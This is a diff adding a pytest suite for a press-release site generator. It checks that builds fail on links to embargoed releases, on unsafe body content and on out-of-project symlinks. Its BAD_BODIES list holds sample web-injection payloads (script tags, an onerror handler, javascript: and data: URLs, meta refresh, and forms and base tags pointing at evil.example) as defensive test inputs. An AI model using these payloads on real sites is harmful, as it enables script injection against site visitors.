@@ -1,0 +1,242 @@
+"""The trust boundary of bodies and of publishing: every way to write a link to a held release,
+active or remote content in a body, collisions with what the site writes, and a failed build
+that must leave the published site exactly as it was (``Project.failing_build`` checks that,
+and that `make check` fails with the same messages)."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import feedparser
+import pytest
+
+from conftest import release_text, snapshot
+
+TOKEN = "zqxheld"
+HELD_FILE = f"2026-11-20-{TOKEN}.md"
+HELD_URL = f"news/2026/11/20/slug-{TOKEN}/"
+SITE = "https://newsroom.example.org"
+NOW = "2026-11-01T00:00:00Z"
+HELD = (f"the address of press_releases/{HELD_FILE}, which is held back until 2026-11-20T09:00:00+09:00: "
+        "the link would reveal it")
+
+
+@pytest.fixture
+def archive(project):
+    """A published release and an embargoed one; tests add a release whose body is under test."""
+    project.release("2026-10-01-public.md", release_text(title="Public", date="2026-10-01T09:00"))
+    project.release(HELD_FILE, release_text(
+        title=f"Held {TOKEN}", date="2026-11-20T09:00", slug=f"slug-{TOKEN}", body=f"Held body {TOKEN}."))
+    return project
+
+
+def body_release(project, body: str, name: str = "2026-10-02-under-test.md", **fields) -> str:
+    """A release with ``body``; returns its source path. Its body starts on line 7."""
+    project.release(name, release_text(title="Under test", date="2026-10-02T09:00", body=body, **fields))
+    return f"press_releases/{name}"
+
+
+# -- a link to a held release, in any spelling a browser follows ---------------------------------
+
+HELD_SPELLINGS = [
+    pytest.param(f"<a href=../../../11/20/slug-{TOKEN}/>unquoted</a>", f"../../../11/20/slug-{TOKEN}/",
+                 id="unquoted-attribute"),
+    pytest.param(f'<a href="https://NEWSROOM.Example.ORG/{HELD_URL}">host case</a>',
+                 f"https://NEWSROOM.Example.ORG/{HELD_URL}", id="host-case"),
+    pytest.param(f'<a href="https://newsroom.example.org:443/{HELD_URL}">port</a>',
+                 f"https://newsroom.example.org:443/{HELD_URL}", id="default-port"),
+    pytest.param(f"[slashes](../../..//11//20/slug-{TOKEN}/)", f"../../..//11//20/slug-{TOKEN}/",
+                 id="repeated-slashes"),
+    pytest.param(f"[encoded](/news/2026/11/20/slug%2D{TOKEN}/)", f"/news/2026/11/20/slug%2D{TOKEN}/",
+                 id="percent-encoded"),
+    pytest.param(f'<a href="..\\..\\..\\11\\20\\slug-{TOKEN}\\">backslashes</a>',
+                 f"..\\..\\..\\11\\20\\slug-{TOKEN}\\", id="backslashes"),
+    pytest.param(f"[case](/News/2026/11/20/Slug-{TOKEN.upper()}/)", f"/News/2026/11/20/Slug-{TOKEN.upper()}/",
+                 id="path-case"),
+    pytest.param(f'<img alt="x" srcset="/{HELD_URL}index.html 2x">', f"/{HELD_URL}index.html", id="srcset"),
+    pytest.param(f'<blockquote cite="/{HELD_URL}">Quoted.</blockquote>', f"/{HELD_URL}", id="cite-attribute"),
+    pytest.param(f'<a href="http://newsroom.example.org/news/./2026/../2026/11/20/slug-{TOKEN}">dots</a>',
+                 f"http://newsroom.example.org/news/./2026/../2026/11/20/slug-{TOKEN}", id="dot-segments"),
+    pytest.param(f"<a href=\"/press_releases/{HELD_FILE}\">file from the root</a>", f"/press_releases/{HELD_FILE}",
+                 id="file-from-root"),
+    pytest.param(f"<a href=\"../../../11/20/slug-{TOKEN}/\n\">newline</a>", f"../../../11/20/slug-{TOKEN}/\n",
+                 id="newline-inside"),
+]
+
+
+@pytest.mark.parametrize("body, address", HELD_SPELLINGS)
+def test_a_link_to_a_held_release_fails_the_build_in_every_spelling(archive, body, address):
+    source = body_release(archive, f"Intro.\n\n{body}\n")
+    archive.failing_build(f"{source}:9: links to {address.strip()}", HELD)
+
+
+def test_a_link_to_a_held_release_by_its_file_in_raw_html_is_left_out_like_a_markdown_one(archive):
+    body_release(archive, f'Read <a href="{HELD_FILE}">the next one</a> and [this]({HELD_FILE}).\n')
+    build = archive.build()
+    assert build.returncode == 0, build.log
+    page = build.html("news/2026/10/02/under-test/")
+    assert page.xpath("//div[@class='nr-body']//a") == []
+    assert "Read the next one and this." in page.xpath("string(//div[@class='nr-body'])")
+    assert TOKEN not in build.text("news/2026/10/02/under-test/")
+
+
+def test_text_inside_code_is_never_a_link(archive):
+    body_release(archive, f'Write `<a href="../../../11/20/slug-{TOKEN}/">` or:\n\n'
+                          f'    <a href="x/">code</a>\n')
+    build = archive.build()
+    assert build.returncode == 0, build.log
+    body = build.html("news/2026/10/02/under-test/").xpath("//div[@class='nr-body']")[0]
+    assert body.xpath(".//a") == []
+    assert f'<a href="../../../11/20/slug-{TOKEN}/">' in body.xpath("string(.//code)")
+    item = json.loads(build.text("feed.json"))["items"][0]
+    assert '&lt;a href="x/"&gt;' in item["content_html"], "a code sample is not rewritten as a link"
+    assert f"{SITE}/news/2026/10/02/under-test/x/" not in item["content_html"]
+
+
+# -- active and remote content in bodies -----------------------------------------------------------
+
+BAD_BODIES = [
+    pytest.param("<script>alert(1)</script>", "raw HTML <script> is not allowed in a body", id="script"),
+    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "raw HTML <script> is not allowed in a body",
+                 id="script-upper-case"),
+    pytest.param('<img src="x.png" onerror="alert(1)" alt="x">',
+                 "the attribute onerror=\"…\" on <img> would run a script", id="event-handler"),
+    pytest.param("[click](javascript:alert(1))", "the address 'javascript:alert(1)' (javascript:) is not allowed",
+                 id="javascript-link"),
+    pytest.param('<a href=" JaVaScRiPt:alert(1)">x</a>', "the address 'JaVaScRiPt:alert(1)' (javascript:) is not allowed",
+                 id="javascript-spelled"),
+    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>',
+                 "the address 'data:text/html,<script>alert(1)</script>' (data:) is not allowed", id="data-url"),
+    pytest.param("![pixel](https://tracker.example/p.png)",
+                 "<img> loads 'https://tracker.example/p.png' from another host (tracker.example)", id="remote-image"),
+    pytest.param("![pixel](//tracker.example/p.png)",
+                 "<img> loads '//tracker.example/p.png' from another host (tracker.example)",
+                 id="scheme-relative-image"),
+    pytest.param('<video src="https://cdn.example/v.mp4" controls></video>',
+                 "<video> loads 'https://cdn.example/v.mp4' from another host (cdn.example)", id="remote-video"),
+    pytest.param('<iframe src="https://www.youtube.com/embed/x"></iframe>',
+                 "raw HTML <iframe> is not allowed in a body", id="iframe"),
+    pytest.param('<object data="https://evil.example/x.swf"></object>', "raw HTML <object> is not allowed",
+                 id="object"),
+    pytest.param('<embed src="https://evil.example/x.swf">', "raw HTML <embed> is not allowed", id="embed"),
+    pytest.param("<style>body{background:url(https://evil.example/)}</style>", "raw HTML <style> is not allowed",
+                 id="style-element"),
+    pytest.param('<form action="https://evil.example/"><input name="q"></form>', "raw HTML <form> is not allowed",
+                 id="form"),
+    pytest.param('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+                 "raw HTML <meta> is not allowed", id="meta-refresh"),
+    pytest.param('<svg onload="alert(1)"></svg>', "raw HTML <svg> is not allowed", id="inline-svg"),
+    pytest.param('<base href="https://evil.example/">', "raw HTML <base> is not allowed", id="base"),
+    pytest.param("See [the letter](2019-12-10-missing-letter.md).",
+                 "links to '2019-12-10-missing-letter.md', which is not a page or file of the site "
+                 "(looked for press_releases/2019-12-10-missing-letter.md)", id="broken-link"),
+    pytest.param("![map](images/missing-map.png)",
+                 "links to 'images/missing-map.png', which is not a page or file of the site", id="missing-image"),
+]
+
+
+@pytest.mark.parametrize("body, message", BAD_BODIES)
+def test_active_or_remote_content_in_a_body_fails_the_build_at_its_line(archive, body, message):
+    source = body_release(archive, f"Intro.\n\n{body}\n")
+    archive.failing_build(f"{source}:9: {message}")
+
+
+def test_every_problem_of_every_body_is_listed_together(archive):
+    first = body_release(archive, "<script>alert(1)</script>\n")
+    second = body_release(archive, "Fine.\n\n![x](https://tracker.example/p.png)\n", name="2026-10-03-other.md")
+    archive.failing_build("2 problems in the press releases:", f"{first}:7: raw HTML <script>",
+                          f"{second}:9: <img> loads")
+
+
+def test_a_host_listed_in_embed_hosts_may_be_embedded(archive):
+    archive.newsroom(embed_hosts=["www.youtube-nocookie.com"])
+    body_release(archive, '<iframe src="https://www.youtube-nocookie.com/embed/x" title="A video"></iframe>\n\n'
+                          "![chart](https://www.youtube-nocookie.com/chart.png)\n")
+    build = archive.build()
+    assert build.returncode == 0, build.log
+    page = build.html("news/2026/10/02/under-test/")
+    assert page.xpath("//div[@class='nr-body']//iframe/@src") == ["https://www.youtube-nocookie.com/embed/x"]
+
+
+def test_links_to_other_sites_and_style_rules_are_handled_by_the_sanitizer(archive):
+    body_release(archive, '<p style="background: url(https://evil.example/x.png); text-align: center">'
+                          'See <a href="https://other.example/page">the report</a>.</p>\n\n'
+                          "<marquee>old</marquee> <u>underlined</u>\n")
+    build = archive.build()
+    assert build.returncode == 0, build.log
+    body = build.html("news/2026/10/02/under-test/").xpath("//div[@class='nr-body']")[0]
+    assert body.xpath(".//a/@href") == ["https://other.example/page"]
+    assert body.xpath(".//p/@style") == ["text-align:center"]
+    assert "evil.example" not in build.text("news/2026/10/02/under-test/")
+    assert body.xpath(".//marquee") == [] and "old" in body.text_content()
+
+
+def test_a_hand_written_page_is_held_to_the_same_rules(archive):
+    archive.doc("about.md", "# About\n\nWho we are.\n\n<script>alert(1)</script>\n")
+    archive.failing_build("docs/about.md:5: raw HTML <script> is not allowed in a body")
+
+
+def test_a_symlink_in_docs_leading_out_of_the_project_fails_the_build(archive, tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("CI_TOKEN=abc\n")
+    (archive.path / "docs" / "env.txt").symlink_to(secret)
+    archive.failing_build(f"docs/env.txt: is a link to {secret}, outside the project")
+
+
+# -- publishing ----------------------------------------------------------------------------------
+
+def test_a_build_that_fails_after_writing_pages_leaves_the_published_site_as_it_was(archive):
+    """Pagefind fails at the very end, after pages, feeds and the sitemap were written."""
+    archive.failing_build("The search index could not be built", env={"PAGEFIND_BINARY_PATH": "/bin/false"},
+                          check=False)
+
+
+def test_a_strict_warning_leaves_the_published_site_as_it_was(archive):
+    archive.doc("about.md", "# About\n\nSee [the missing page](missing.md).\n")
+    archive.failing_build("contains a link 'missing.md', but the target is not found among documentation files")
+
+
+def test_a_good_build_replaces_the_site_and_leaves_no_scratch(archive, tmp_path):
+    site = archive.path / "site"
+    (site / "stale").mkdir(parents=True)
+    (site / "stale" / "index.html").write_text("a page the archive no longer has")
+    dead = 2 ** 22 + 12345  # above Linux's default pid_max: no such process
+    (archive.path / f".site.newsroom-{dead}-new").mkdir()
+    shm = Path("/dev/shm") if Path("/dev/shm").is_dir() else None
+    if shm:
+        (shm / f"newsroom-search-{dead}-abc").mkdir(exist_ok=True)
+    build = archive.build()
+    assert build.returncode == 0, build.log
+    assert build.exists("news/2026/10/01/public/") and not (site / "stale").exists()
+    assert [p.name for p in archive.path.iterdir() if ".newsroom-" in p.name] == []
+    if shm:
+        assert not (shm / f"newsroom-search-{dead}-abc").exists(), "a killed build's search scratch is removed"
+
+
+def test_check_passes_on_a_good_archive_and_writes_nothing(archive):
+    checked = archive.check()
+    assert checked.returncode == 0, checked.stderr
+    assert "2 releases are valid: 1 published at 2026-11-01T09:00:00+09:00, 1 held back" in checked.stdout
+    assert not (archive.path / "site").exists()
+
+
+# -- what the site writes itself -------------------------------------------------------------------
+
+@pytest.mark.parametrize("alias, owner", [
+    ("404.html", "the site itself (the 404 page)"),
+    ("search/", "the site itself"),
+    ("sitemap.xml.gz", "the site itself (the sitemap)"),
+    ("media/thumbnails/x.jpg", "the site itself (thumbnails)"),
+    ("countries/", "the site itself"),
+])
+def test_an_alias_may_not_take_an_address_the_site_writes(archive, alias, owner):
+    source = body_release(archive, "Fine.", aliases=[alias])
+    archive.failing_build(f"{source}:5: field 'aliases': the old address '{alias}' is already taken by {owner}")
+
+
+def test_a_hand_written_page_at_a_releases_address_fails_the_build(archive):
+    archive.doc("news/2026/10/01/public.md", "# Not the release\n")
+    archive.failing_build("docs/news/2026/10/01/public.md: is at news/2026/10/01/public/, the address of "
+                          "press_releases/2026-10-01-public.md")
